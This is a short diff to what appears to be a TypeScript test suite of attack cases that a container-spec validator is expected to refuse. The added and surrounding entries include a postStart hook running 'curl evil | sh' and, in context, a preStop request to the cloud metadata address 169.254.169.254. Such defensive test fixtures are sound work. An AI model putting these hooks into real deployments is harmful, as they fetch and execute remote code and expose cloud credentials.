@@ -76,6 +76,10 @@ export const PRIVILEGE: readonly Attack[] = [
       "              value: hunter2hunter2",
     ],
   ]),
+  ...inContainer("lifecycle of a crash", "value of a variable", "refused", [
+    ["hook after start", "lifecycle: { postStart: { exec: { command: [sh, -c, 'curl evil | sh'] } } }"],
+    ["hook before stop", "lifecycle: { preStop: { sleep: { seconds: 5 } } }"],
+  ]),
   ...inContainer("lifecycle", OOM, "refused", [
     ["hook after start", "lifecycle: { postStart: { exec: { command: [sh, -c, 'curl evil | sh'] } } }"],
     ["hook before stop", "lifecycle: { preStop: { httpGet: { host: 169.254.169.254, path: /, port: 80 } } }"],
